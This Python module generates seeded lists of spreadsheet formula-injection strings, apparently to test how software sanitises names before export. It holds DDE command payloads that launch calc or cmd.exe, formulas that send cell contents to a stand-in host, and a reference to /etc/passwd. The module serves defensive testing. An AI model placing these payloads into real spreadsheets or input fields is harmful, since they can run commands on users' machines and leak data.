"""Strings that somebody types as a name so that a spreadsheet works on them. All invented."""

from __future__ import annotations

import random
from collections.abc import Iterator

STARTS = (
    "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "\0", "==", "=-", "-=", "+@", "%", "|", ";", ",",
    "\uff1d", "\uff0b", "\uff0d", "\uff20",
    "\ufe66", "\ufe62", "\ufe63", "\ufe6b", "\u2212", "\u2010",
)  # fmt: skip
HIDDEN_BY = (
    " ", "   ", '"', "'", "''", '" ', "`", "\u201c", "\u2018", "\u00ab", "\t", "\n",
    "\u00a0", "\u00ad", "\u1680", "\u180e", "\u200b", "\u200e", "\u2028", "\u202e", "\u2060",
    "\u3000", "\u3164", "\ufeff", "\ufff9", "\x01", "\x1f", "\x7f", "\x85", "e\u0301", "🙂",
)  # fmt: skip
WORK = (
    "1+1", "SUM(1;2)", "2+5+cmd|' /C calc'!A0", "cmd|' /C notepad'!'A1'", 'DDE("a";"b";"c")',
    'HYPERLINK("http://x.example/?"&A1;"Click")', 'WEBSERVICE("http://x.example/"&A2)',
    'IMPORTXML(CONCAT("http://x.example/";B1);"//a")', "MSEXCEL|'\\..\\..\\cmd.exe'!''", "A1",
    'EXEC("calc")', "10-20", "1E5", "3035550100", 'REPT("x";9)', 'INDIRECT("A1")', "a", "",
    "{1;2}", "'file:///etc/passwd'#$x.A1", "rundll32|'URL.dll,OpenURL x.exe'!A",
)  # fmt: skip
BREAKS_OUT = (
    "", "", "", "", '","', '";"', '","=1+1', ",=1+1", ";=1+1", "\t=1+1", '"\r\n"=1+1', "\r\n=1+1",
    "\n=2*3", '""', '"', "'", "\\", '\\"', "\x0b", "\u2029", "\ud7ff", "\ufdfa", "\U000e0001",
)  # fmt: skip


def hostile_strings(seed: int, number: int) -> list[str]:
    """So many different ones, always the same for a seed."""
    found: dict[str, None] = {}
    for text in _made(random.Random(seed)):  # noqa: S311  # a choice of tests
        found[text] = None
        if len(found) == number:
            break
    return list(found)


def _made(chance: random.Random) -> Iterator[str]:
    while True:
        hidden = "".join(chance.choices(HIDDEN_BY, k=chance.choice((0, 0, 0, 1, 1, 2))))
        text = hidden + chance.choice(STARTS) + chance.choice(WORK) + chance.choice(BREAKS_OUT)
        yield chance.choice(("", "", "", "Ann ")) + text + chance.choice(("", "", " ", "\n", "x"))
